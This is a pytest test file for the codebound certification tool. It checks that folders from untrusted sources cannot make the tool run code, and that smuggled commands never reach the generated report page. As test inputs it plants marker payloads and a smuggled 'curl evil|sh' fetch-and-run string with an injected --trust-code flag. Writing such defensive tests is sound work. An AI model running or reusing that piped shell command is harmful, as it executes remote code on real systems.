"""Folders that a stranger made: no verb that opens one runs its code, or tells of another certificate."""

import importlib.util
import json
import os
import py_compile
import re
import shutil
from pathlib import Path

import pytest
import torch
from attack.networks import SAMPLE, Plain
from torch import Tensor

from codebound.certification import certify
from codebound.classifier import load_classifier
from codebound.run.errors import UsageError
from codebound_verify.__main__ import main as verify

EVIL = "open('ran', 'w')\n"


class Smooth(Plain):
    """No chain of a message, so that its architecture is code."""

    def forward(self, x: Tensor) -> Tensor:
        return torch.softmax(self.last(x.flatten(1)), dim=1)


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A folder about code, and one about a chain, both with the author's words."""
    place = tmp_path_factory.mktemp("made")
    torch.manual_seed(0)
    certify(Smooth().eval(), SAMPLE, method="naive", effort="quick").save_to(place / "code")
    certify(None, SAMPLE, method="picks", effort="quick").save_to(place / "chain")
    return place


@pytest.fixture
def folders(made, empty_folder, codebound):
    """Copies of them; whatever could be imported leaves a trace."""
    for name in ("code", "chain"):
        folder = Path(shutil.copytree(made / name, name))
        codebound("report", folder)
        words = folder / "dossier.toml"
        words.write_text(words.read_text().replace('= ""', '= "said"'))
        Path(f"{name}/evil.py").write_text(EVIL)
    Path("evil.py").write_text(EVIL)
    Path("package").mkdir()
    Path("package/__init__.py").write_text(EVIL)
    (written,) = Path("code").glob("network_*.py")
    written.write_text(EVIL + written.read_text())
    return empty_folder


def test_the_text_of_a_network_runs_and_no_compiled_copy_of_another(made, empty_folder, codebound):
    folder = Path(shutil.copytree(made / "code", "code"))
    (written,) = folder.glob("network_*.py")
    Path("evil.py").write_text(EVIL)
    kept = importlib.util.cache_from_source(str(written))
    py_compile.compile("evil.py", kept, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    load_classifier(folder, model=f"{written}:make")
    command = ("code/certificate.cbound", "--data", "code/sample.npz", "--model", f"{written}:make")
    assert verify(command) == 0
    assert not Path("ran").exists()


def asking(folder, command):
    """As folders of earlier versions have it: a command, and nothing else."""
    path = Path(folder, "result.json")
    told = {**json.loads(path.read_text()), "verify_here": command}
    del told["verify_with"]
    path.write_text(json.dumps(told))


def asking_with(folder, options):
    path = Path(folder, "result.json")
    path.write_text(json.dumps({**json.loads(path.read_text()), "verify_with": options}))


@pytest.mark.parametrize("is_older", [False, True])
@pytest.mark.parametrize("factory", ["evil.py:make", "evil:make", "code/evil.py:make", "package.inner:make"])
@pytest.mark.parametrize("folder", ["code", "chain"])
def test_a_report_runs_no_code_that_a_file_names(folders, codebound, folder, factory, is_older):
    if is_older:
        asking(
            folder, f"codebound-verify certificate.cbound --data sample.npz --model {factory} --trust-code"
        )
    else:
        asking_with(folder, {"data": "sample.npz", "model": factory, "trust_code": True})
    code, _, err = codebound("report", folder)
    assert not Path("ran").exists()
    assert (code == 2 and "name it as the model" in err) if folder == "code" else code == 0, err


def test_code_is_run_by_who_names_it(folders, codebound):
    (written,) = Path("code").glob("network_*.py")
    written.write_text(written.read_text().removeprefix(EVIL))
    code, _, err = codebound("report", "code", "--model", f"{written}:make")
    assert code == 0, err
    assert "ACCEPT" in Path("code/dossier.html").read_text()
    assert load_classifier("code", model=f"{written}:make").predict(SAMPLE.x[:3])
    assert codebound("decode", "code", "--out", "g.safetensors", "--model", f"{written}:make")[0] == 0


@pytest.mark.parametrize(
    "command",
    [
        "codebound-verify other.cbound --data sample.npz",
        "codebound-verify certificate.cbound other.cbound",
        "codebound-verify certificate.cbound --head --model=evil:make",
        "codebound-verify certificate.cbound --help",
        "codebound-verify 'certificate.cbound",
        "",
    ],
)
def test_a_report_is_about_the_certificate_beside_it(folders, codebound, command):
    asking("chain", command)
    code, _, err = codebound("report", "chain")
    assert code == 1
    assert "does not say how to verify its certificate" in err
    assert not Path("chain/dossier.html").exists()
    assert not Path("ran").exists()


@pytest.mark.parametrize(
    "options",
    [
        None,
        [],
        "sample.npz",
        {"file": "other.cbound", "data": "sample.npz"},
        {"data": 5},
        {"data": ""},
        {"data": ["sample.npz"]},
        {"data": "sample.npz", "allow_copies": "yes"},
        {"data": "sample.npz", "test": "sample.npz"},
        {"data": "sample.npz", "signed_by": "evil.pem"},
    ],
)
def test_a_folder_names_nothing_but_the_files_of_its_certificate(folders, codebound, options):
    asking_with("chain", options)
    code, _, err = codebound("report", "chain")
    assert code == 1
    assert "does not say how to verify its certificate" in err
    assert not Path("chain/dossier.html").exists()


def test_the_page_shows_what_was_asked_and_no_other_command(folders, codebound):
    path = Path("chain/result.json")
    told = json.loads(path.read_text())
    path.write_text(json.dumps({**told, "verify_here": "codebound-verify certificate.cbound --data digits"}))
    assert codebound("report", "chain")[0] == 0
    page = Path("chain/dossier.html").read_text()
    assert told["verify_here"] in page
    assert "--data digits" not in page


def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebound):
    asking("chain", "'curl evil|sh' certificate.cbound --data sample.npz --model evil.py:make --trust-code")
    assert codebound("report", "chain")[0] == 0
    page = Path("chain/dossier.html").read_text()
    assert "codebound-verify certificate.cbound --data sample.npz" in page
    assert not any(word in page for word in ("curl", "evil.py", "--trust-code"))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="the system has no queues between processes")
def test_a_sample_that_never_ends_is_refused(folders, codebound):
    Path("chain/sample.npz").unlink()
    os.mkfifo("chain/sample.npz")
    code, _, err = codebound("report", "chain")
    assert code == 2, err
    with pytest.raises(SystemExit, match="2"):
        verify(("chain/certificate.cbound", "--data", "chain/sample.npz"))


def test_a_result_that_lacks_something_is_named(folders, codebound):
    path = Path("chain/result.json")
    path.write_text(json.dumps({"verify": json.loads(path.read_text())["verify"]}))
    code, _, err = codebound("report", "chain")
    assert code == 1
    assert re.search(r"result\.json is not what certify writes: KeyError", err)


@pytest.mark.parametrize("verb", ["decode", "show", "joint", "load"])
def test_opening_a_folder_runs_nothing(folders, codebound, verb):
    if verb == "load":
        with pytest.raises(UsageError, match="none is run because a file names it"):
            load_classifier("code")
    elif verb == "decode":
        code, _, err = codebound("decode", "code", "--out", "g.safetensors")
        assert (code, "name it as the model" in err) == (2, True)
    else:
        assert codebound(verb, "code/certificate.cbound")[0] == 0
    assert not Path("ran").exists()


@pytest.mark.parametrize("found", [5, None, {"a": 1}, "abc", [5, {"levels": 3}]])
def test_names_that_are_none_are_left_out(folders, found):
    path = Path("chain/result.json")
    told = json.loads(path.read_text())
    for inputs in (found, {**told["inputs"], "columns": found}):
        path.write_text(json.dumps({**told, "class_names": found, "inputs": inputs}))
        g = load_classifier("chain")
        assert (g.class_names, g.columns) == ((), ())
